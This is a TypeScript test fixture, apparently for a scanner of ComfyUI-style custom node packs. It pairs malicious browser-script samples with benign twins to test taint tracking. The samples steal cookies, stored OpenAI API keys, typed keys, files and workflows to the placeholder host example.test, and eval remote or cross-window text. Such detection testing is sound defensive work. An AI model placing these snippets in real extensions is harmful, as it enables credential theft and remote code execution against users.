import { type Attack, script } from './attack-pack.test-support.ts'

const init = 'WEB_DIRECTORY = "./web"\nNODE_CLASS_MAPPINGS = {}\n'

/** Scripts in `web` that name each other. */
const scripts = (
  name: string,
  attack: Readonly<Record<string, string>>,
  twin: Readonly<Record<string, string>>,
): Attack => {
  const pack = (files: Readonly<Record<string, string>>) => ({
    '__init__.py': init,
    ...Object.fromEntries(Object.entries(files).map(([path, text]) => [`web/${path}`, text])),
  })
  return { name, files: pack(attack), twin: pack(twin) }
}

const get = 'async function get() { return await (await fetch("https://example.test/a")).text() }\n'
const cookies = 'function read() { return document.cookie }\n'
const send = 'function send(v) { fetch("https://example.test/c", { method: "POST", body: v }) }\n'

/** Values on their way through functions, objects and modules of scripts. */
export const scriptPaths: Attack[] = [
  script(
    'hands the result of one function to another in a third',
    `${get}function run(x) { eval(x) }\nasync function go() { const v = await get(); run(v) }\ngo()`,
    `${get}function show(x) { console.log(x) }\nasync function go() { const v = await get(); show(v) }\ngo()`,
  ),
  script(
    'chains two functions as steps of a promise',
    `${get}function run(x) { eval(x) }\nfunction go() { get().then(run) }\ngo()`,
    `${get}function run(x) { eval(x) }\nfunction go() { get().then(console.log); run("1") }\ngo()`,
  ),
  scripts(
    'divides a path among modules',
    {
      'main.js': 'import { read } from "./read.js"\nimport push from "./all.js"\npush(read())',
      'read.js': `export ${cookies}`,
      'all.js': 'export { push as default } from "./push.js"',
      'push.js': `${send}export const push = (v) => send(v)`,
    },
    {
      'main.js': 'import { read } from "./read.js"\nimport push from "./all.js"\npush(read().length)',
      'read.js': `export ${cookies}`,
      'all.js': 'export { push as default } from "./push.js"',
      'push.js': `${send}export const push = (v) => send(v)`,
    },
  ),
  script(
    'keeps what it sends in a private field with a setter',
    `${send}class A { #v; set v(x) { this.#v = x } get v() { return this.#v } }\nfunction go() { const a = new A(); a.v = document.cookie; send(a.v) }\ngo()`,
    `${send}class A { #v; set v(x) { this.#v = x } get v() { return this.#v } }\nfunction go() { const a = new A(); a.v = document.cookie.length; send(a.v) }\ngo()`,
  ),
  script(
    'leaves what it sends in the window',
    `${send}function keep() { window.packState = document.cookie }\nfunction go() { send(globalThis["packState"]) }\nkeep(); go()`,
    `${send}function keep() { window.packState = document.cookie }\nfunction go() { send(globalThis["packTheme"]) }\nkeep(); go()`,
  ),
  script(
    'leaves what it sends in an object',
    `${send}function go() { const o = { meta: {} }; o.meta.value = document.cookie; send(o.meta.value) }\ngo()`,
    `${send}function go() { const o = { meta: {} }; o.meta.value = document.cookie; send(o.meta.value.length) }\ngo()`,
  ),
  script(
    'leaves what it sends in an element',
    `${send}function go() { const e = document.createElement("div"); e.dataset.state = document.cookie; send(e.getAttribute("data-state")) }\ngo()`,
    `${send}function go() { const e = document.createElement("div"); e.dataset.state = document.cookie; send("shown") }\ngo()`,
  ),
  script(
    'has a callback assign what it sends',
    `${send}function go() { let v; [document.cookie].forEach((one) => { v = one }); send(v) }\ngo()`,
    `${send}function go() { let v; [document.cookie].forEach((one) => { v = one.length }); send(v) }\ngo()`,
  ),
  script(
    'waits before it hands on what it sends',
    `${send}async function go() { send(await new Promise((done) => setTimeout(() => done(document.cookie), 50))) }\ngo()`,
    `${send}async function go() { await new Promise((done) => setTimeout(() => done(document.cookie), 50)); send("done") }\ngo()`,
  ),
]

const get2 = 'async function get() { return (await (await fetch("https://example.test/a")).json()).next }\n'
const api = 'import { api } from "../../scripts/api.js"\n'
const app = 'import { app } from "../../scripts/app.js"\n'
const feed = (text: string) =>
  `import requests\nfrom server import PromptServer\n\n\ndef poll():\n    PromptServer.instance.send_sync("pack.feed", {"text": ${text}})\n\n\npoll()\n${init}`
const fed = `${api}api.addEventListener("pack.feed", ({ detail }) => { document.body.innerHTML = detail.text })`

/** Ends of paths in the page. */
export const scriptEnds: Attack[] = [
  script(
    'shows markup from another server',
    `${get}async function go() { document.createElement("div").innerHTML = await get() }\ngo()`,
    'async function go() { const r = await fetch(new URL("./help.html", import.meta.url)); document.createElement("div").innerHTML = await r.text() }\ngo()',
  ),
  script(
    'gives a button a handler from another server',
    `${get}async function go() { document.createElement("button").setAttribute("onclick", await get()) }\ngo()`,
    `${get}async function go() { document.createElement("button").setAttribute("title", await get()) }\ngo()`,
  ),
  script(
    'fills a frame with a page from another server',
    `${get}async function go() { document.createElement("iframe").setAttribute("srcdoc", await get()) }\ngo()`,
    `${get}async function go() { document.createElement("iframe").setAttribute("srcdoc", DOMPurify.sanitize(await get())) }\ngo()`,
  ),
  script(
    'has a timer run text from another server',
    `${get}async function go() { setTimeout(await get(), 10) }\ngo()`,
    `${get}async function go() { const t = await get(); setTimeout(() => console.log(t), 10) }\ngo()`,
  ),
  script(
    'runs the text at an address that a server says',
    `${get2}async function go() { eval(await (await fetch(await get())).text()) }\ngo()`,
    `${get2}async function go() { console.log(await (await fetch(await get())).text()) }\ngo()`,
  ),
  script(
    'puts the workflow into the names of a connection to another browser',
    `${app}new RTCPeerConnection({ iceServers: [{ urls: "turn:example.test:3478", username: JSON.stringify(app.graph.serialize()) }] })`,
    `${app}new RTCPeerConnection({ iceServers: [{ urls: "turn:example.test:3478", username: String(app.graph.serialize().length) }] })`,
  ),
  script(
    'puts cookies into the address of a style sheet',
    'const l = document.createElement("link"); l.href = "https://example.test/a.css?" + document.cookie; document.head.append(l)',
    'const l = document.createElement("link"); l.href = "https://example.test/a.css?" + document.cookie.length; document.head.append(l)',
  ),
  script(
    'gives the workflow to a worker that is written as a text',
    `${app}const w = new Worker(URL.createObjectURL(new Blob(['onmessage = (e) => fetch("https://example.test/c", { method: "POST", body: e.data })']))); w.postMessage(JSON.stringify(app.graph.serialize()))`,
    `${app}const w = new Worker(URL.createObjectURL(new Blob(['onmessage = (e) => postMessage(e.data.length)']))); w.postMessage(JSON.stringify(app.graph.serialize()))`,
  ),
  scripts(
    'gives the workflow to a worker that sends it',
    {
      'main.js': `${app}const w = new Worker(new URL("./task.js", import.meta.url)); w.postMessage(JSON.stringify(app.graph.serialize()))`,
      'task.js': 'self.onmessage = (e) => fetch("https://example.test/c", { method: "POST", body: e.data })',
    },
    {
      'main.js': `${app}const w = new Worker(new URL("./task.js", import.meta.url)); w.postMessage(JSON.stringify(app.graph.serialize()))`,
      'task.js': 'self.onmessage = (e) => fetch("/pack/c", { method: "POST", body: e.data })',
    },
  ),
  script(
    'sends a key of another pack',
    'fetch("https://example.test/c", { headers: { a: localStorage.getItem("openai_api_key") } })',
    'fetch("https://api.openai.com/v1", { headers: { a: localStorage.getItem("openai_api_key") } })',
  ),
  script(
    'sends a key of a setting of another pack',
    `${app}navigator.sendBeacon("https://example.test/c", app.extensionManager.setting.get("OpenAI.ApiKey"))`,
    `${app}navigator.sendBeacon("https://example.test/c", app.extensionManager.setting.get("Pack.Theme"))`,
  ),
  script(
    'sends what users type into a field for keys of any node',
    `${app}app.registerExtension({ name: "a", nodeCreated(node) { node.addWidget("text", "api_key", "", (v) => navigator.sendBeacon("https://example.test/c", v)) } })`,
    `${app}app.registerExtension({ name: "a", nodeCreated(node) { node.addWidget("text", "api_key", "", (v) => navigator.sendBeacon("/pack/c", v)) } })`,
  ),
  script(
    'sends a picture of the canvas',
    `${app}fetch("https://example.test/c", { method: "POST", body: app.canvas.canvas.toDataURL() })`,
    'fetch("https://example.test/c", { method: "POST", body: document.createElement("canvas").toDataURL() })',
  ),
  script(
    'sends a file that the user chose',
    'const i = document.createElement("input"); i.type = "file"; i.onchange = async () => navigator.sendBeacon("https://example.test/c", await i.files[0].text())',
    'const i = document.createElement("input"); i.type = "file"; i.onchange = async () => navigator.sendBeacon("/upload/image", await i.files[0].text())',
  ),
  script(
    'runs messages of any window',
    'window.addEventListener("message", (e) => eval(e.data))',
    'window.addEventListener("message", (e) => console.log(e.data))',
  ),
  script(
    'hands cookies on in a message to itself',
    `${send}window.addEventListener("message", (e) => send(e.data)); window.postMessage(document.cookie, "*")`,
    `${send}window.addEventListener("message", (e) => send(e.data)); window.postMessage("ready", "*")`,
  ),
  script(
    'hands cookies on in the storage',
    `${send}function keep() { localStorage.setItem("pack.a", document.cookie) }\nkeep(); send(localStorage.getItem("pack.a"))`,
    `${send}function keep() { localStorage.setItem("pack.a", document.cookie) }\nkeep(); send(localStorage.getItem("pack.b"))`,
  ),
  {
    name: 'has Python fetch markup that the page shows',
    files: { '__init__.py': feed('requests.get("https://example.test/a").text'), 'web/main.js': fed },
    twin: { '__init__.py': feed('"ready"'), 'web/main.js': fed },
  },
]
